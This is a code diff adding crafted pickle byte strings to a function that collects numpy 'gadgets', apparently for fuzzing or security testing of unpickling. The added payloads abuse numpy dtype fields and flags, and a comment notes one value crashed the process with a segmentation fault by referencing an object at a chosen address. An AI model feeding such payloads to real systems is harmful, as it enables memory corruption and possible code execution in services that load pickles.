@@ -130,6 +130,13 @@ def numpy_gadgets() -> dict[str, bytes]:
                 found[f"scalar {where}"] = scalar + crafted + of(b"\x41" * 8) + b"\x86R"
                 shape = of((1 << 20, 1 << 20)) if number % 2 else of((2,))
                 found[f"array {where}"] = array + b"(" + of(1) + shape + crafted + of(False) + of(b"\x41" * 8) + b"tb"
+    for flags in (0, 1, 5, 27, 61, 63):  # 61 was a SIGSEGV: an object by its address, whose count is raised
+        inner = dtype + of(("O8", False, True)) + b"R"
+        fields = b"}" + of("a") + b"(" + inner + b"K\0ts"
+        crafted = dtype + of(("V8", False, True)) + b"R(" + of(3) + of("|") + b"N" + of(("a",)) + fields
+        crafted += of(8) + of(1) + of(flags) + b"tb"
+        scalar = b"cnumpy._core.multiarray\nscalar\n"
+        found[f"an object in a field, flags {flags}"] = scalar + crafted + of(b"\x41" * 8) + b"\x86R"
     return found
 
 
